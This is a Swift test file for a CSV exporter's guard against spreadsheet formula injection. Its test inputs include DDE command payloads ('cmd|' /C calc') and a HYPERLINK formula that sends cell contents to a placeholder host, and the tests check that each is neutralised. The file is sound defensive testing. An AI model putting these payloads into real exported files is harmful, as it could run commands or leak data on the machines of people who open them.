import Engine
import Syntax
import Testing

@Suite struct ExportFormulaTests {
  private func encoded(_ text: String, raw: Bool = false) -> (cell: String, count: Int) {
    var encoder = DelimitedEncoder([ExportColumn("a")], raw: raw)
    encoder.beginRow()
    var text = text
    text.withUTF8 { encoder.appendText($0) }
    return (encoder.output.text, encoder.guardedCount)
  }

  @Test(arguments: [
    "=1+1", "+1+cmd|x", "-", "=", "@SUM(1+9)*cmd|' /C calc'!A0", "@张三", "\t=1+1", "\r=1", "\n=1",
    "\0", "＝1", "＋1", "－1", "＠x", "+86 138 0013 8000", "-1.5e3x", "'=1+1", "''@x",
    "=HYPERLINK(\"http://x.invalid?l=\"&A2,\"x\")", "--1", "-1-1", "+.", "-e5",
  ])
  func textThatASpreadsheetWouldRunIsGuarded(text: String) {
    let quoted = text.split(separator: "\"", omittingEmptySubsequences: false)
      .joined(separator: "\"\"")
    #expect(encoded(text) == ("\"'\(quoted)\"", 1))
    #expect(encoded(text, raw: true).count == 0)
    #expect(FormulaGuard.unguarded("'" + text) == text)
  }

  @Test(arguments: [
    "plain", "", "'", "''", "'plain", "-1", "+1", "-1.5e3", "+.5", "-2.", "'-1", "–5", ";=1+1",
    "a=1",
    " =1", "%=1", "\"=1+1\"", "（＝", "ａ＝",
  ])
  func otherTextIsLeftAlone(text: String) {
    #expect(encoded(text).count == 0)
    #expect(FormulaGuard.unguarded(text) == text)
  }

  @Test func numbersAreNeverGuardedAndNamesOfColumnsAre() {
    var encoder = DelimitedEncoder([ExportColumn("=cmd"), ExportColumn("b")])
    encoder.begin()
    encoder.beginRow()
    encoder.appendInteger(-5)
    encoder.appendDecimal(-150, scale: 2)
    encoder.endRow()
    #expect(encoder.output.text == "\"'=cmd\",b\n-5,-1.50\n")
    #expect(encoder.guardedCount == 1)
  }
}
